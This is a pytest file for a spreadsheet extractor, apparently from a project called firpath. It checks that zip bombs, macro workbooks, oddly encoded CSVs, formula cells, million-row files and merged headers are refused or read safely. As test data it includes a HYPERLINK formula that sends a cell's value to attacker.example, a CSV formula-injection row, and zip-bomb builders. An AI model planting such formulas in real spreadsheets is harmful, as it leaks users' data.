"""Hostile MAP spreadsheets, as an inbox receives them: what each reads as, or why it is refused.

The cases of docs/reliability.md ("Spreadsheets"): a zip bomb disguised as .xlsx, a macro-enabled
.xlsm, CSVs in cp1252 and UTF-16, formulas in cells, a million rows, merged header cells.
"""

from __future__ import annotations

import openpyxl
import pytest

from extractors import extract
from firpath.domain import DeviceRef, DocumentKind, FirmwareVersion, Relation, VersionRef
from firpath.domain.documents import UnreadableDocument
from firpath.domain.limits import DocumentLimits
from tests.hostile_builders import (
    MAP_HEADER,
    MAP_ROW,
    VBA_PROJECT,
    document,
    forge_declared_size,
    macro_enabled,
    map_csv,
    map_sheet_rows,
    part,
    sheet_xml,
    space_bomb,
    with_saved_values,
    workbook_with_sheet,
    xlsx,
)

pytestmark = pytest.mark.unit

TARGET = VersionRef("01030001", FirmwareVersion("01030001"))
BASE = VersionRef("01020005", FirmwareVersion("01020005"))
HYPERLINK = '=HYPERLINK("http://attacker.example/?q="&A2,"01020005")'


def paths_workbook(*rows: tuple[object, ...]) -> bytes:
    return xlsx({"Paths": [MAP_HEADER, *rows]})


# --- zip bomb disguised as .xlsx ----------------------------------------------------------------


def test_a_zip_bomb_named_xlsx_is_refused_by_its_declared_size_before_it_is_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    bomb = forge_declared_size(paths_workbook(MAP_ROW), "xl/worksheets/sheet1.xml", 4_000_000_000)
    received = document("MAP/paths.xlsx", bomb)
    assert received.kind is DocumentKind.XLSX

    def never(*args: object, **kwargs: object) -> None:
        raise AssertionError("the workbook was opened")

    monkeypatch.setattr(openpyxl, "load_workbook", never)
    with pytest.raises(UnreadableDocument) as raised:
        extract(received)
    assert str(raised.value).startswith("MAP/paths.xlsx: zip bomb refused: its parts declare 3,8")
    assert "over the 500 MB limit; nothing was unpacked (raise FIRPATH_MAX_EXPANDED_MB" in str(raised.value)


def test_a_deflate_bomb_under_a_lower_expanded_limit_is_refused() -> None:
    received = document("MAP/paths.xlsx", space_bomb(20 << 20))
    with pytest.raises(UnreadableDocument, match=r"zip bomb refused: its parts declare 20 MB when unpacked \(2\d\.\d KB packed\), over the 8 MB limit"):
        extract(received, DocumentLimits(expanded_mb=8))


def test_a_part_that_lies_about_its_size_is_unreadable_not_unpacked_further() -> None:
    liar = forge_declared_size(space_bomb(20 << 20), "xl/worksheets/sheet1.xml", 4096)
    with pytest.raises(UnreadableDocument, match=r"not a readable XLSX workbook \(BadZipFile: Bad CRC-32 for file 'xl/worksheets/sheet1.xml'\)"):
        extract(document("MAP/paths.xlsx", liar))


# --- macro-enabled .xlsm ---------------------------------------------------------------------------


def test_a_macro_enabled_workbook_is_read_for_its_cells_and_its_macros_are_not() -> None:
    received = document("MAP/paths.xlsm", macro_enabled(paths_workbook(MAP_ROW)))
    assert received.kind is DocumentKind.XLSX
    extraction = extract(received)
    (claim,) = extraction.claims
    assert (claim.target, claim.bases, claim.evidence.location) == (TARGET, (BASE,), "sheet 'Paths' row 2")
    assert extraction.attachments == ()  # the VBA project goes nowhere
    assert extraction.notices == (
        "macro-enabled workbook: its cells were read; its macros (xl/macrosheets, xl/vbaProject.bin) were never "
        "run and are in no output",
    )
    assert not any(b"Workbook_Open" in str(part).encode() for part in (extraction.claims, extraction.notices))
    assert part(received.data, "xl/vbaProject.bin") == VBA_PROJECT  # the file as received is kept as received


# --- CSV in cp1252 and UTF-16 ----------------------------------------------------------------------

ROW_TEXT = "Mfr: Bäcker & Söhne | Model ID: Zähler–5 | HW Ver: 0002 | Current FW: 01020005 | Target FW: 01030001"


@pytest.mark.parametrize(
    ("encoding", "delimiter", "name"),
    [
        ("cp1252", ";", "MAP/paths.csv"),
        ("utf-16", "\t", "MAP/paths.txt"),  # Excel's "Unicode text": UTF-16 with a BOM, tab-separated
        ("utf-16", ",", "MAP/export"),  # no extension: told by its content
        ("utf-16-le", ",", "MAP/paths.csv"),  # no BOM
    ],
    ids=["cp1252", "utf-16-bom-tabs", "utf-16-no-extension", "utf-16-le-no-bom"],
)
def test_a_csv_in_a_windows_encoding_reads_every_character(encoding: str, delimiter: str, name: str) -> None:
    data = map_csv([("MAP firmware paths",), MAP_HEADER, ("Bäcker & Söhne", "Zähler–5", "0002", "01020005", "01030001")],
                   delimiter=delimiter, encoding=encoding)  # fmt: skip
    received = document(name, data)
    assert received.kind is DocumentKind.CSV
    (claim,) = extract(received).claims
    assert claim.device == DeviceRef("Bäcker & Söhne", "Zähler–5", "0002")
    assert (claim.evidence.location, claim.evidence.text) == ("row 3", ROW_TEXT)


# --- formulas in cells -------------------------------------------------------------------------------


def test_a_formula_in_a_csv_is_text_a_reviewer_sees_and_never_a_version() -> None:
    data = map_csv([MAP_HEADER]) + b'10A7,0101,0002,"=HYPERLINK(""http://attacker.example"",""01020005"")",01030001\r\n'
    (claim,) = extract(document("MAP/paths.csv", data)).claims
    formula = '=HYPERLINK("http://attacker.example","01020005")'
    assert claim.bases == (VersionRef(formula, None, f"{formula!r} is a spreadsheet formula, never evaluated; not a CPL firmware version", readable=False),)
    assert claim.relation is Relation.EXACT and claim.target == TARGET
    assert f"Current FW: {formula}" in claim.evidence.text


def test_a_formula_in_a_workbook_reads_as_the_value_excel_saved_for_it() -> None:
    data = with_saved_values(paths_workbook(("10A7", "0101", "0002", HYPERLINK, "01030001")), {"D2": "01020005"})
    extraction = extract(document("MAP/paths.xlsx", data))
    (claim,) = extraction.claims
    assert claim.bases == (BASE,)
    assert extraction.notices == ()


def test_a_formula_without_a_saved_value_is_read_as_its_text_never_evaluated() -> None:
    extraction = extract(document("MAP/paths.xlsx", paths_workbook(("10A7", "0101", "0002", HYPERLINK, "=TEXT(1030001,\"00000000\")"))))
    (claim,) = extraction.claims
    assert claim.bases[0].text == HYPERLINK and claim.bases[0].version is None
    assert claim.target.text == '=TEXT(1030001,"00000000")' and claim.target.version is None
    assert "never evaluated" in claim.target.note
    assert extraction.notices == (
        "sheet 'Paths': 2 formula cell(s) had no saved value and were read as their formula text, never evaluated",
    )


# --- a million rows ------------------------------------------------------------------------------------


def test_a_million_row_csv_is_refused_by_the_row_limit_naming_it() -> None:
    data = map_csv([MAP_HEADER]) + map_csv([MAP_ROW]) * 1_000_000
    with pytest.raises(UnreadableDocument) as raised:
        extract(document("MAP/everything.csv", data))
    assert str(raised.value) == (
        "MAP/everything.csv: more than 100,000 rows (row 100,001 holds data): firpath reads at most 100,000 rows "
        "of one sheet or CSV; split the file or raise FIRPATH_MAX_SHEET_ROWS"
    )


def test_a_million_row_workbook_is_refused_by_the_row_limit_as_it_streams() -> None:
    data = workbook_with_sheet(sheet_xml(map_sheet_rows(1_000_000)))
    assert len(data) < 4_000_000  # what arrives is small; what it unpacks to is not
    with pytest.raises(UnreadableDocument, match=r"MAP/everything.xlsx: more than 5,000 rows \(row 5,001 holds data\)"):
        extract(document("MAP/everything.xlsx", data), DocumentLimits(sheet_rows=5_000))


def test_rows_up_to_the_limit_are_all_read() -> None:
    data = map_csv([MAP_HEADER]) + map_csv([MAP_ROW]) * 4_999
    claims = extract(document("MAP/many.csv", data), DocumentLimits(sheet_rows=5_000)).claims
    assert len(claims) == 4_999 and claims[-1].evidence.location == "row 5000"


# --- merged header cells -------------------------------------------------------------------------------


def test_a_header_with_a_merged_group_cell_is_read_and_labelled_as_it_reads() -> None:
    data = xlsx(
        {"Paths": [["Acme Metering MAP"], ["Device", "", "", "Firmware", ""], ["Mfr", "Model ID", "HW Ver", "Current", "Target"],
                   MAP_ROW, ("10A7", "0101", "0002", "01020007", "01030002")]},
        merges={"Paths": ["A1:E1", "A2:C2", "D2:E2"]},
    )  # fmt: skip
    claims = extract(document("MAP/paths.xlsx", data)).claims
    assert [(c.evidence.location, c.target.text, [b.text for b in c.bases]) for c in claims] == [
        ("sheet 'Paths' row 4", "01030001", ["01020005"]),
        ("sheet 'Paths' row 5", "01030002", ["01020007"]),
    ]
    assert claims[0].evidence.text == "Mfr: 10A7 | Model ID: 0101 | HW Ver: 0002 | Current Firmware: 01020005 | Target Firmware: 01030001"


def test_header_cells_merged_down_and_a_manufacturer_merged_over_its_rows() -> None:
    data = xlsx(
        {"Paths": [["Mfr", "Model ID", "HW Ver", "Firmware", ""], ["", "", "", "Current FW", "Target FW"],
                   MAP_ROW, ("", "0101", "0002", "01020007", "01030002")]},
        merges={"Paths": ["A1:A2", "B1:B2", "C1:C2", "D1:E1", "A3:A4"]},
    )  # fmt: skip
    claims = extract(document("MAP/paths.xlsx", data)).claims
    assert [c.device for c in claims] == [DeviceRef("10A7", "0101", "0002")] * 2
    assert [c.evidence.location for c in claims] == ["sheet 'Paths' row 3", "sheet 'Paths' row 4"]


def test_a_repeated_two_row_header_is_not_a_claim() -> None:
    upper, lower = ["Device", "", "", "Firmware", ""], ["Mfr", "Model ID", "HW Ver", "Current", "Target"]
    data = xlsx({"Paths": [upper, lower, MAP_ROW, upper, lower, MAP_ROW]}, merges={"Paths": ["D1:E1", "D4:E4"]})
    claims = extract(document("MAP/paths.xlsx", data)).claims
    assert [c.evidence.location for c in claims] == ["sheet 'Paths' row 3", "sheet 'Paths' row 6"]
